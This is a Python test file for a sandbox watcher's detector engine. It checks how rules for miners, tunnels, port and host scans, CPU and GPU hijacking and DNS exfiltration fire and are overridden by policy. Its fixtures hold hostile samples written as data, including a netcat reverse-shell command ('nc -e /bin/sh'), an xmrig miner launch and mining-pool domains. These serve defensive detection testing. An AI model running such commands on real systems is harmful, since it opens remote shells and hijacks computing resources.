"""The detector engine: once per process, sustained and burst timing on the events' own
clock, the policy's overrides, and state that goes with the process or sandbox."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from corral.errors import PolicyError
from corral.policy import Policy
from corral.policy.schema import DetectorOverride
from corral.watch.engine import MAX_WINDOW, Engine, Match
from corral.watch.rules import DetectorRules, load_detectors


def ev(kind: str, t: float = 100.0, **fields: Any) -> dict[str, Any]:
    return {"kind": kind, "sandbox": "sb1", "t": t, "pid": 42, "action_id": "act1", **fields}


def xmrig(**fields: Any) -> dict[str, Any]:
    return ev("exec", **{"argv": ["xmrig"], "exe": "/tmp/xmrig", "ppid": 1, **fields})


def hot(t: float, *, pid: int = 42, cpu: float = 1.0, outlived: bool = True) -> dict[str, Any]:
    return ev(
        "sample",
        t,
        pid=pid,
        argv=["python3", "-c", "loop"],
        cpu=cpu,
        cpu_share=cpu,  # a quota of a core or more
        outlived_action=outlived,
    )


def refused(t: float, port: int, host: str = "10.9.9.9", **fields: Any) -> dict[str, Any]:
    return ev("net", t, **{"host": host, "port": port, "ip": None, "allowed": False, **fields})


def ids(matches: list[Match]) -> list[str]:
    return [m.rule.id for m in matches]


@pytest.fixture(scope="module")
def rules() -> DetectorRules:
    return load_detectors()


@pytest.fixture
def engine(rules: DetectorRules) -> Engine:
    return Engine(rules)


# --- matches ---------------------------------------------------------------------------


def test_a_match_carries_the_rule_response_reason_and_evidence(engine: Engine) -> None:
    event = xmrig()
    (m,) = engine.feed(event)
    assert m.rule.id == "mining-binary" and m.response == "kill-sandbox"
    assert m.reason == "xmrig is a cryptocurrency miner"
    assert (m.sandbox, m.pid, m.action_id, m.t) == ("sb1", 42, "act1", 100.0)
    assert m.evidence == (event,) and m.evidence[0] is not event  # a snapshot
    assert m.category == "mining" and m.severity == "critical"
    data = m.to_dict()
    assert json.loads(json.dumps(data)) == data
    assert data["detector"] == "mining-binary" and data["tags"] == ["T1496"]


def test_the_default_rules_are_loaded_when_none_are_given(rules: DetectorRules) -> None:
    assert Engine().rules is rules
    assert {r.id for r in Engine().active} == set(rules.ids)


def test_events_no_rule_looks_at_cost_nothing(engine: Engine) -> None:
    assert engine.feed(ev("exit")) == []
    assert engine.feed(ev("resource")) == []
    assert engine.feed({"kind": None}) == []
    assert engine.feed({}) == []
    benign = ev("exec", argv=["ls", "-la"], exe="/usr/bin/ls", stdio_sockets=False)
    for _ in range(2000):
        assert engine.feed(benign) == []
        assert engine.feed(ev("exit")) == []
    # Nothing is kept for a process that has exited: a watcher running for weeks does not
    # grow with the programs it has seen. (Its speed is measured in bench/watch_bench.py.)
    assert sum(len(procs) for procs in engine._procs.values()) == 0


def test_several_rules_can_fire_on_one_event_in_file_order(engine: Engine) -> None:
    event = ev("exec", argv=["nc", "-e", "/bin/sh", "h", "4444"], exe="/bin/nc", stdio_sockets=True)
    assert ids(engine.feed(event)) == ["tunnel-netcat-exec", "tunnel-socket-stdio"]


# --- once per process ------------------------------------------------------------------


def test_a_rule_fires_once_per_process_until_it_is_forgotten(engine: Engine) -> None:
    assert ids(engine.feed(xmrig())) == ["mining-binary"]
    assert engine.feed(xmrig(t=101.0)) == []  # same process: no flood
    assert ids(engine.feed(xmrig(pid=43))) == ["mining-binary"]  # another process
    assert ids(engine.feed(xmrig(sandbox="sb2"))) == ["mining-binary"]  # another sandbox
    engine.forget_pid("sb1", 42)
    assert ids(engine.feed(xmrig(t=102.0))) == ["mining-binary"]


def test_an_exit_event_forgets_the_process(engine: Engine) -> None:
    assert ids(engine.feed(xmrig())) == ["mining-binary"]
    assert engine.feed(ev("exit", 101.0)) == []
    assert ids(engine.feed(xmrig(t=102.0))) == ["mining-binary"]  # the pid came back


def test_forget_drops_a_whole_sandbox(engine: Engine) -> None:
    engine.feed(xmrig())
    engine.feed(xmrig(sandbox="sb2"))
    engine.forget("sb1")
    engine.forget("never-seen")
    engine.forget_pid("never-seen", 1)
    assert ids(engine.feed(xmrig())) == ["mining-binary"]
    assert engine.feed(xmrig(sandbox="sb2")) == []


def test_events_without_a_pid_are_reported_once_per_sandbox(engine: Engine) -> None:
    dns = ev("dns", name="xmr.nanopool.org", allowed=True, pid=None)
    assert ids(engine.feed(dns)) == ["mining-pool-dns"]
    assert engine.feed({**dns, "name": "pool.supportxmr.com"}) == []
    engine.forget("sb1")
    assert ids(engine.feed(dns)) == ["mining-pool-dns"]


# --- sustained -------------------------------------------------------------------------


def test_sustained_fires_when_the_conditions_held_long_enough(engine: Engine) -> None:
    assert engine.feed(hot(10.0)) == []
    assert engine.feed(hot(11.0)) == []
    assert engine.feed(hot(12.99)) == []
    (m,) = engine.feed(hot(13.0))  # t - t0 >= 3
    assert m.rule.id == "resource-hijack-cpu" and m.response == "kill-process"
    assert [e["t"] for e in m.evidence] == [10.0, 13.0]  # the first and the last
    assert m.t == 13.0 and m.pid == 42
    assert engine.feed(hot(20.0)) == []  # once per process


def test_sustained_starts_over_when_the_conditions_fail(engine: Engine) -> None:
    engine.feed(hot(10.0))
    engine.feed(hot(12.0))
    assert engine.feed(hot(12.5, cpu=0.3)) == []  # it rested: start over
    assert engine.feed(hot(13.0)) == []
    assert engine.feed(hot(15.9)) == []
    assert ids(engine.feed(hot(16.0))) == ["resource-hijack-cpu"]


def test_sustained_is_per_process(engine: Engine) -> None:
    engine.feed(hot(10.0, pid=1))
    engine.feed(hot(11.0, pid=2))
    assert [m.pid for m in engine.feed(hot(13.0, pid=1))] == [1]
    assert engine.feed(hot(13.0, pid=2)) == []
    assert [m.pid for m in engine.feed(hot(14.0, pid=2))] == [2]


def test_a_foreground_job_is_never_a_hijack(engine: Engine) -> None:
    for i in range(20):
        assert engine.feed(hot(10.0 + i, outlived=False)) == []


def test_forgetting_a_process_drops_its_sustained_start(engine: Engine) -> None:
    engine.feed(hot(10.0))
    engine.forget_pid("sb1", 42)
    assert engine.feed(hot(13.0)) == []
    assert ids(engine.feed(hot(16.0))) == ["resource-hijack-cpu"]


def test_gpu_hijack_is_sustained_per_gpu(engine: Engine) -> None:
    def use(t: float, gpu: int, util: float) -> dict[str, Any]:
        return ev("gpu", t, gpu=gpu, util=util, memory=8 << 30, granted=False, argv=["sleep"])

    assert engine.feed(use(10.0, 0, 97.0)) == []
    assert engine.feed(use(10.0, 1, 0.0)) == []  # an idle second GPU does not reset GPU 0
    assert engine.feed(use(10.5, 0, 97.0)) == []
    (m,) = engine.feed(use(11.0, 0, 97.0))
    assert m.rule.id == "gpu-hijack" and m.response == "kill-sandbox"
    assert m.reason == "sleep (pid 42) is using a GPU the policy does not grant"


def test_a_granted_gpu_is_not_a_hijack(engine: Engine) -> None:
    for i in range(5):
        event = ev("gpu", 10.0 + i, gpu=0, util=99.0, memory=1, granted=True, argv=["python3"])
        assert engine.feed(event) == []


# --- burst -----------------------------------------------------------------------------


def test_a_port_scan_is_a_burst_of_distinct_refused_ports(engine: Engine) -> None:
    for i in range(19):
        assert engine.feed(refused(10.0 + i * 0.1, 1000 + i)) == []
    assert engine.feed(refused(12.0, 1000)) == []  # a port seen already counts once
    (m,) = engine.feed(refused(12.1, 2000, action_id="act9", pid=None))
    assert m.rule.id == "recon-port-probe" and m.response == "alert"
    assert (m.action_id, m.pid) == ("act9", None)
    assert m.reason.endswith("(a port scan; last 10.9.9.9:2000)")
    assert len(m.evidence) == 20
    assert len({e["port"] for e in m.evidence}) == 20


def test_a_burst_fires_once_per_window(engine: Engine) -> None:
    for i in range(20):
        engine.feed(refused(10.0, 1000 + i))
    for i in range(19):  # the window starts empty: ports already seen count again
        assert engine.feed(refused(11.0, 1000 + i)) == []
    assert ids(engine.feed(refused(11.0, 1019))) == ["recon-port-probe"]


def test_a_burst_only_counts_the_last_within_seconds(engine: Engine) -> None:
    for i in range(15):
        engine.feed(refused(10.0, 1000 + i))
    for i in range(15):  # 10.1 s later the first 15 have left the window
        assert engine.feed(refused(20.1 + i * 0.01, 2000 + i)) == []
    for i in range(4):
        assert engine.feed(refused(21.0, 3000 + i)) == []
    assert ids(engine.feed(refused(21.0, 3004))) == ["recon-port-probe"]


def test_a_slow_scan_is_no_burst(engine: Engine) -> None:
    assert [m for i in range(100) for m in engine.feed(refused(i * 0.6, 1000 + i))] == []


def test_allowed_connections_are_not_probes(engine: Engine) -> None:
    for i in range(40):
        event = ev("net", 10.0, host=f"h{i}.example", port=8000 + i, ip=None, allowed=True)
        assert engine.feed(event) == []


def test_bursts_are_per_sandbox(engine: Engine) -> None:
    for i in range(10):
        engine.feed(refused(10.0, 1000 + i))
        engine.feed(refused(10.0, 2000 + i, sandbox="sb2"))
    for i in range(10, 19):
        assert engine.feed(refused(10.0, 1000 + i, sandbox="sb2")) == []
    engine.forget("sb1")
    assert ids(engine.feed(refused(10.0, 3000, sandbox="sb2"))) == ["recon-port-probe"]


def test_a_host_sweep_is_a_burst_of_distinct_hosts(engine: Engine) -> None:
    matches = [m for i in range(20) for m in engine.feed(refused(10.0, 22, host=f"10.0.0.{i}"))]
    assert ids(matches) == ["recon-host-probe"]
    assert {e["host"] for e in matches[0].evidence} == {f"10.0.0.{i}" for i in range(20)}


def test_burst_evidence_is_capped_and_one_event_per_value(tmp_path: Path) -> None:
    path = tmp_path / "r.yaml"
    path.write_text(
        'version: "t"\nrules:\n'
        "  - id: dns-burst\n    category: exfiltration\n    severity: medium\n"
        "    response: freeze\n    tags: [T1048.003]\n    reason: 'many names ({name})'\n"
        "    on: dns\n    match: {burst: {count: 60, within: 5, distinct: name}}\n"
    )
    engine = Engine(load_detectors(path))
    out = []
    for i in range(60):
        out += engine.feed(ev("dns", 10.0, name=f"x{i}.example", allowed=True))
        out += engine.feed(ev("dns", 10.0, name=f"X{i}.EXAMPLE", allowed=True))  # the same
    (m,) = out
    assert m.response == "freeze" and m.reason == "many names (x59.example)"
    assert len(m.evidence) == 50
    assert [e["name"] for e in m.evidence[:2]] == ["x0.example", "x1.example"]


def test_a_flood_cannot_grow_a_window_without_bound(engine: Engine) -> None:
    for _ in range(MAX_WINDOW + 100):
        engine.feed(refused(10.0, 1))
    window = engine._windows["sb1"]["recon-port-probe"]
    assert len(window.events) == MAX_WINDOW and window.counts == {1: MAX_WINDOW}


# --- overrides -------------------------------------------------------------------------


def test_an_override_can_disable_a_rule(rules: DetectorRules) -> None:
    engine = Engine(rules, {"mining-binary": DetectorOverride(enabled=False)})
    assert engine.feed(xmrig()) == []
    assert engine.response_for("mining-binary") is None
    assert "mining-binary" not in {r.id for r in engine.active}
    assert engine.feed(ev("exec", argv=["ngrok"], exe="/x/ngrok")) != []  # others still run


def test_an_override_can_change_the_response(rules: DetectorRules) -> None:
    engine = Engine(rules, {"mining-binary": DetectorOverride(response="end-episode")})
    (m,) = engine.feed(xmrig())
    assert m.response == "end-episode" and m.rule.response == "kill-sandbox"
    assert engine.response_for("mining-binary") == "end-episode"
    assert engine.response_for("tunnel-tool") == "kill-process"  # untouched


def test_overrides_given_as_plain_mappings(rules: DetectorRules) -> None:
    overrides: Any = {
        "mining-binary": {"response": "alert"},
        "tunnel-tool": {"enabled": False},
        "no-such-rule": {"enabled": False},
    }
    engine = Engine(rules, overrides)
    assert [m.response for m in engine.feed(xmrig())] == ["alert"]
    assert engine.feed(ev("exec", argv=["ngrok"], exe="/x/ngrok")) == []
    assert engine.unknown_overrides == ("no-such-rule",)
    with pytest.raises(PolicyError, match=r"detectors\.mining-binary\.response: unknown response"):
        Engine(rules, {"mining-binary": {"response": "explode"}})  # type: ignore[dict-item]


def test_a_policy_detectors_section_is_the_overrides(rules: DetectorRules) -> None:
    policy = Policy.from_dict(
        {
            "version": 1,
            "detectors": {
                "resource-hijack-cpu": {"response": "alert"},
                "recon-port-probe": {"enabled": False},
            },
        }
    )
    engine = Engine(rules, policy.spec.detectors)
    assert engine.unknown_overrides == ()
    engine.feed(hot(0.0))
    assert [m.response for m in engine.feed(hot(3.0))] == ["alert"]
    assert [m for i in range(30) for m in engine.feed(refused(1.0, 1000 + i))] == []
